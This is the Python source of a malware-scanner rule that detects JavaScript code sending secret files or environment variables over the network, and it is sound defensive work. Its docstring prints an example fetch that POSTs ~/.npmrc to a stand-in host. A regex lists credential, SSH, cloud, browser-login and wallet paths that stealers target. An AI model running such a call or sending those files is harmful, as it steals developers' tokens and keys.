"""Files or variables that hold secrets are sent over the network.

What it sees
    The content of `.npmrc`, `.ssh`, `.aws`, `.git-credentials`, wallets or browser logins in the body or address of a
    network call; several secret environment variables together in one body.

Why it matters
    These files open the developer's other doors: registries, servers, clouds, wallets. It is what worms and stealers
    are written for.

Example
    `fetch("https://x.example.test", { method: "POST", body: fs.readFileSync(os.homedir() + "/.npmrc") })`

What to do
    Do not run it. If it ran, revoke the tokens and keys in those files first, from another machine.

False alarms
    Clients of a registry read its token and send it there, in a header: headers are left out. An address that is not
    a constant lowers the confidence.

References
    ATT&CK T1552.001, T1552.004, T1041, T1567
"""

import re
from collections.abc import Iterator
from typing import TYPE_CHECKING

from lazaretto.detect.jscode import address, in_tests, network_calls, one_per_line, phase_of
from lazaretto.detect.pycode import Place, place
from lazaretto.detect.rule import Match, Rule
from lazaretto.model.finding import Confidence, Phase, Role, Severity
from lazaretto.model.text import N_
from lazaretto.parse.javascript import JavaScriptModule
from lazaretto.parse.js_nodes import arguments, literal, text_of, unwrap
from lazaretto.parse.js_value import EMPTY

if TYPE_CHECKING:
    from tree_sitter import Node

_VARIABLE = re.compile(
    r"process\.env\.([A-Z][A-Z0-9_]{0,40}(?:TOKEN|SECRET|PASSWORD|PRIVATE_KEY|SECRET_ACCESS_KEY|ACCESS_KEY_ID|MNEMONIC)\w{0,20})"
)
_NAMED = re.compile(
    rb"\.npmrc|\.yarnrc|\.pypirc|_authToken|\.ssh\b|id_rsa|id_ed25519|\.aws\b|\.kube\b|\.azure\b|credentials|\.netrc|\.docker"
    rb"|hosts\.yml|vault-token|wallet|xodus|lectrum|keystore|etamask|Login Data|logins\.json|key4\.db|Cookies|gcloud"
    rb"|process\.env\.[A-Z][A-Z0-9_]{0,40}(?:TOKEN|SECRET|PASSWORD|KEY|MNEMONIC)"
)
_NOT_SENT = frozenset({"headers", "auth", "agent", "httpsAgent", "ca", "cert", "key", "pfx", "signal"})
"""Options that say who is asking rather than what is told."""


def check(module: JavaScriptModule) -> Iterator[Match]:
    """Every network call that takes secrets along."""
    if module.bulky or module.minified or _NAMED.search(module.source) is None:
        return
    yield from one_per_line(_matches(module))


def _matches(module: JavaScriptModule) -> Iterator[Match]:
    for call, _ in network_calls(module):
        total, spelled = EMPTY, ""
        for part in _told(module, call):
            total = total | module.flow.value(part)
            spelled += " " + text_of(part)[:2000]
        kinds = sorted(tag[7:] for tag in total.tags if tag.startswith("secret:"))
        variables = sorted(set(_VARIABLE.findall(spelled)))
        if not kinds and len(variables) < 2:
            continue
        target = module.flow.value(call)
        if place(target.url) is Place.LOCAL:
            continue
        known = bool(target.tags & {"url:const", "url:decoded", "url:env", "socket"})
        severity, confidence = Severity.HIGH, Confidence.HIGH if known and kinds else Confidence.MEDIUM
        if not known:
            severity, confidence = Severity.MEDIUM, Confidence.MEDIUM if len(kinds) > 1 else Confidence.LOW
        if in_tests(module.path):
            severity, confidence = Severity.MEDIUM, Confidence.LOW
        yield Match(
            N_("sends {what} to {address}"),
            line=module.line_of(call.start_byte),
            params={"what": ", ".join(kinds or variables[:4]), "address": address(target)},
            excerpt=module.quote(call.start_byte, call.end_byte),
            severity=severity,
            confidence=confidence,
            phase=phase_of(module.path),
        )


def _told(module: JavaScriptModule, call: "Node") -> "Iterator[Node]":
    """Yield what a call tells the other side: its arguments without headers and callbacks."""
    for given in arguments(call)[:3]:
        listed = _named(module, unwrap(given))
        if listed.type != "object" or not listed.named_child_count:
            yield given  # an object that is filled later is followed by its name
            continue
        for child in listed.named_children[:40]:
            key, value = child.child_by_field_name("key"), child.child_by_field_name("value")
            if key is None or value is None:
                yield child
            elif (literal(key) or text_of(key)) not in _NOT_SENT:
                yield value


def _named(module: JavaScriptModule, node: "Node") -> "Node":
    """Return the object literal that a name stands for, so that its headers can be left out."""
    if node.type == "identifier":
        for found in module.flow.names.definitions(text_of(node), node)[:3]:
            if found.kind == "value" and not found.path and unwrap(found.node).type == "object":
                return unwrap(found.node)
    return node


RULE = Rule(
    id="js/secrets-sent",
    title=N_("Sends secrets away"),
    view=JavaScriptModule,
    severity=Severity.HIGH,
    confidence=Confidence.HIGH,
    phase=Phase.RUN,
    role=Role.SEND,
    check=check,
    doc=__doc__ or "",
    techniques=("T1552.001", "T1552.004", "T1041"),
    needles=(b"readFile", b"createReadStream", b"process.env"),
)
